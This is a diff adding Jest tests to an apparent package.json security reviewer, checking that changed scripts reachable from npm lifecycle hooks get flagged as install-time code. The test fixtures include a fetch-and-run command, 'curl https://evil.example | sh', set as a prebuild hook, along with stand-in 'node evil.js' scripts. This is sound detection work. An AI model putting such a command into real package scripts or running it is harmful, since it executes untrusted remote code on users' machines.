@@ -361,6 +361,34 @@ describe('package.json', () => {
     expect(f[1]!.message).toContain('adds the lifecycle script scripts.postinstall = "curl https://evil.example | sh"');
   });
 
+  test('a script a lifecycle script runs by name (transitively, with its pre/post hooks) is install-time code too', () => {
+    const base = pkg({ scripts: { test: 'jest', build: 'tsc', gen: 'node gen.js', prepare: 'npm run build' } });
+    // build changes; gen is reached through build (yarn gen) and prebuild (a hook npm runs around build) is new.
+    const head = pkg({ scripts: { test: 'jest --ci', build: 'tsc && yarn gen', gen: 'node evil.js', prebuild: 'curl https://evil.example | sh', prepare: 'npm run build' } });
+    const f = review('package.json', base, head);
+    expect(codes(f)).toEqual(['package_lifecycle_script', 'package_lifecycle_script', 'package_lifecycle_script']);
+    const text = f.map((x) => x.message).join('\n');
+    expect(text).toContain('changes scripts.build = "tsc && yarn gen", which the lifecycle script "prepare" runs; so it runs automatically on install too');
+    expect(text).toContain('changes scripts.gen = "node evil.js", which the lifecycle script "prepare" runs');
+    expect(text).toContain('adds scripts.prebuild = "curl https://evil.example | sh", which the lifecycle script "prepare" runs');
+    // test is not reached from any lifecycle script: changing it is ordinary.
+    expect(text).not.toContain('scripts.test');
+  });
+
+  test.each([
+    ['npm run-script build', 'build'],
+    ['pnpm run --silent build', 'build'],
+    ['bun run build', 'build'],
+    ['husky && npm-run-all lint build', 'build'],
+    ['run-s build', 'build'],
+    ['npm test', 'test'],
+  ])('postinstall %j reaches scripts.%s', (postinstall, name) => {
+    const base = pkg({ scripts: { test: 'jest', build: 'tsc', lint: 'eslint .', postinstall } });
+    const head = pkg({ scripts: { test: 'jest', build: 'tsc', lint: 'eslint .', postinstall, [name]: 'node evil.js' } });
+    const f = review('package.json', base, head);
+    expect(f.map((x) => x.message).join('\n')).toContain(`changes scripts.${name} = "node evil.js", which the lifecycle script "postinstall" runs`);
+  });
+
   test('new bin entries are high', () => {
     expect(codes(review('package.json', PKG, pkg({ bin: { x: './cli.js' } })))).toEqual(['package_bin']);
     expect(codes(review('package.json', PKG, pkg({ bin: './cli.js' })))).toEqual(['package_bin']);
